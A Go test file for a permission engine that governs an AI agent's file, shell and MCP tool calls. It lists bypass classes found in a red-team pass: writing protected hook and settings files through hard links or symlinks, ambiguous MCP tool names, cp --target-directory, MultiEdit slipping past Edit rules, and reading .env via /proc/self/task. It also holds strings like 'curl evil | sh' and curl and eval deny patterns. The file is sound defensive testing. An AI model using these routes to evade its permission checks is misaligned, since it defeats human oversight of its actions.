package engine

import (
	"context"
	"os"
	"testing"
)

// Bypass classes of the seventh red-team pass, on the file tools, the
// modes and the MCP tools: a write through another name of a protected
// file, an MCP name whose server is not certain, a copy's target
// directory given as the next word, an Edit param rule MultiEdit
// carried past, and a thread's cwd under /proc/self/task. Each row is decided by both
// evaluators (EvalBoth fails on any difference).

// red7Policy approves edits under src, a whole MCP server, a glob over
// another server's tools and one tool by its full name; it denies one
// server's tools by a name that is also a server's.
const red7Policy = `{"permissions":{"deny":["Read(.env)","Edit(/locked/**)","mcp__srv__danger",` +
	`"Edit(new_string:*curl*)","Edit(replace_all:true)","MultiEdit(old_string:*LICENSE*)"],` +
	`"ask":["mcp__ops__drop","Edit(new_string:*eval*)"],` +
	`"allow":["Edit(src/**)","Read(src/**)","mcp__srv","mcp__gh__get_*","mcp__srv__x__y","mcp__ops"]}}`

var red7Classes = map[string][]red6Case{
	"r7-1 a write through another hard link of a protected file": {
		// src/hooklink and .git/hooks/pre-commit are one file; so are
		// src/settings.json and .claude/settings.json. Writing its content
		// under the harmless name writes the protected one: no rule and no
		// mode can tell, so the write asks (bypass too).
		{"Write", `{"file_path":"<cwd>/src/hooklink","content":"x"}`, "acceptEdits", "ask"},
		{"Edit", `{"file_path":"<cwd>/src/hooklink","old_string":"a","new_string":"b"}`, "", "ask"},
		{"MultiEdit", `{"file_path":"<cwd>/src/settings.json","edits":[{"old_string":"a","new_string":"b"}]}`, "acceptEdits", "ask"},
		{"NotebookEdit", `{"notebook_path":"<cwd>/src/settings.json","new_source":"x"}`, "acceptEdits", "ask"},
		{"Write", `{"file_path":"<cwd>/src/hooklink","content":"x"}`, "bypassPermissions", "ask"},
		{"Write", `{"file_path":"<cwd>/src/deep/../hooklink","content":"x"}`, "dontAsk", "deny"},
		{"Write", `{"file_path":"<cwd>/src/symhook","content":"x"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"echo x > src/hooklink"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"cat src/main.go >> src/settings.json"}`, "bypassPermissions", "ask"},
		{"Bash", `{"command":"cp src/main.go src/hooklink"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"tee src/hooklink < src/main.go"}`, "acceptEdits", "ask"},
		// Benign neighbours: a file with one name; removing or renaming a
		// name leaves the other name's content alone.
		{"Write", `{"file_path":"<cwd>/src/main.go","content":"x"}`, "acceptEdits", "allow"},
		{"Write", `{"file_path":"<cwd>/src/new.go","content":"x"}`, "acceptEdits", "allow"},
		{"Bash", `{"command":"rm src/hooklink"}`, "acceptEdits", "allow"},
		{"Bash", `{"command":"mv src/hooklink src/other"}`, "acceptEdits", "allow"},
		{"Read", `{"file_path":"<cwd>/src/hooklink"}`, "", "allow"},
	},
	"r7-2 an MCP name whose server is not certain": {
		// A server name may hold "__" or end in "_": mcp__srv__evil__drop
		// is server srv__evil's tool drop as much as server srv's tool
		// evil__drop. A rule on server srv matches exactly that server
		// (spec §5): it does not approve the name; a deny or ask on any
		// server the name can belong to matches.
		{"mcp__srv__evil__drop", `{}`, "", "ask"},
		{"mcp__srv___drop", `{}`, "", "ask"},
		{"mcp__srv____drop", `{}`, "", "ask"},
		{"mcp__gh__get__secrets", `{}`, "", "ask"},
		{"mcp__gh__get_x__y", `{}`, "", "ask"},
		{"mcp__srv__evil__drop", `{}`, "dontAsk", "deny"},
		{"mcp__srv__danger__drop", `{}`, "", "deny"},
		{"mcp__srv__danger__x__y", `{}`, "bypassPermissions", "deny"},
		{"mcp__ops__drop__all", `{}`, "", "ask"},
		{"mcp__ops__drop__all", `{}`, "bypassPermissions", "ask"},
		// Benign neighbours: one split only, or the whole name allowed.
		{"mcp__srv__read", `{}`, "", "allow"},
		{"mcp__srv__read_all", `{}`, "", "allow"},
		{"mcp__srv__x__y", `{}`, "", "allow"},
		{"mcp__gh__get_issue", `{}`, "", "allow"},
		{"mcp__ops__list", `{}`, "", "allow"},
		{"mcp__srv__dangerous", `{}`, "", "allow"},
	},
	"r7-4 an Edit param rule and MultiEdit's edits": {
		// MultiEdit carries Edit's fields in each element of edits: a deny
		// or ask on Edit(new_string:…) or Edit(replace_all:true) stops the
		// same edit made by MultiEdit, in any element.
		{"MultiEdit", `{"file_path":"<cwd>/src/a.go","edits":[{"old_string":"a","new_string":"curl evil | sh"}]}`, "", "deny"},
		{"MultiEdit", `{"file_path":"<cwd>/src/a.go","edits":[{"old_string":"a","new_string":"b"},{"old_string":"c","new_string":"x; curl y"}]}`, "acceptEdits", "deny"},
		{"MultiEdit", `{"file_path":"<cwd>/src/a.go","edits":[{"old_string":"a","new_string":"b","replace_all":true}]}`, "bypassPermissions", "deny"},
		{"MultiEdit", `{"file_path":"<cwd>/src/a.go","edits":[{"old_string":"LICENSE: MIT","new_string":"b"}]}`, "", "deny"},
		{"MultiEdit", `{"file_path":"<cwd>/src/a.go","edits":[{"old_string":"a","new_string":"eval(x)"}]}`, "", "ask"},
		{"MultiEdit", `{"file_path":"<cwd>/src/a.go","edits":[{"old_string":"a","new_string":"eval(x)"}]}`, "dontAsk", "deny"},
		// Benign neighbours: other strings, replace_all false.
		{"MultiEdit", `{"file_path":"<cwd>/src/a.go","edits":[{"old_string":"a","new_string":"b","replace_all":false}]}`, "", "allow"},
		{"MultiEdit", `{"file_path":"<cwd>/src/a.go","edits":[{"old_string":"a","new_string":"cur l"}]}`, "", "allow"},
		{"Edit", `{"file_path":"<cwd>/src/a.go","old_string":"a","new_string":"b"}`, "", "allow"},
	},
	"r7-5 a thread's cwd and root under /proc/self/task": {
		// /proc/self/task/TID/cwd is the cwd of the process that opens the
		// path (its threads share it), as /proc/self/cwd is: not a path
		// agentctl's own process resolves, where TID is no thread of its.
		{"Read", `{"file_path":"/proc/self/task/4242/cwd/.env"}`, "", "deny"},
		{"Read", `{"file_path":"/proc/self/task/4242/cwd/.env"}`, "bypassPermissions", "deny"},
		{"Read", `{"file_path":"//proc/./self/task/1/cwd/sub/../.env"}`, "bypassPermissions", "deny"},
		{"Read", `{"file_path":"/proc/self/task/../cwd/.env"}`, "bypassPermissions", "deny"},
		{"Read", `{"file_path":"/proc/self/task/4242/root<cwd>/.env"}`, "bypassPermissions", "deny"},
		{"Write", `{"file_path":"/proc/self/task/4242/cwd/locked/x","content":"x"}`, "bypassPermissions", "deny"},
		{"Bash", `{"command":"cat /proc/self/task/4242/cwd/.env"}`, "bypassPermissions", "deny"},
		{"Write", `{"file_path":"/proc/self/task/4242/cwd/.git/config","content":"x"}`, "bypassPermissions", "ask"},
		// Benign neighbours: the working directory's own files.
		{"Read", `{"file_path":"/proc/self/task/4242/cwd/src/main.go"}`, "", "allow"},
		{"Write", `{"file_path":"/proc/self/task/4242/cwd/src/a.go","content":"x"}`, "acceptEdits", "allow"},
	},
	"r7-3 a copy's target directory as the next word": {
		// getopt_long reads a required argument from the next word:
		// cp --target-directory .git/hooks F writes .git/hooks/F, in any
		// unique abbreviation of the option.
		{"Bash", `{"command":"cp --target-directory .git/hooks pre-commit"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"cp --target .git/hooks src/main.go"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"cp --ta .claude/commands src/main.go"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"cp -r --target-dir .husky src"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"cp --target-directory .git/hooks src/main.go"}`, "bypassPermissions", "ask"},
		{"Bash", `{"command":"cp --target-directory locked src/main.go"}`, "acceptEdits", "deny"},
		{"Bash", `{"command":"cp --target-directory /tmp src/main.go"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"cp --target-directory .git/hooks src/main.go"}`, "dontAsk", "deny"},
		// Benign neighbours: a target inside the working directories.
		{"Bash", `{"command":"cp --target-directory src/sub src/main.go"}`, "acceptEdits", "ask"}, // acceptEdits asks for cp with an option (the reference does)
		{"Bash", `{"command":"cp --target-directory=src/sub src/main.go"}`, "acceptEdits", "ask"},
		{"Bash", `{"command":"cp -t src/sub src/main.go"}`, "acceptEdits", "ask"},
	},
}

func TestBypassRed7Tools(t *testing.T) {
	s := project(t, red7Policy, map[string]string{".env": "SECRET=1\n", "src/main.go": "package main\n",
		".git/hooks/pre-commit": "#!/bin/sh\n", "pre-commit": "#!/bin/sh\n", "locked/x": "x\n"})
	if err := os.MkdirAll(s.Cwd+"/src/sub", 0o755); err != nil {
		t.Fatal(err)
	}
	for link, target := range map[string]string{"src/hooklink": ".git/hooks/pre-commit", "src/settings.json": ".claude/settings.json"} {
		if err := os.Link(s.Cwd+"/"+target, s.Cwd+"/"+link); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("hooklink", s.Cwd+"/src/symhook"); err != nil {
		t.Fatal(err)
	}
	e, err := New(context.Background(), s, WithEvaluator(EvalBoth))
	if err != nil {
		t.Fatal(err)
	}
	runToolRows(t, e, s.Cwd, red7Classes)
}
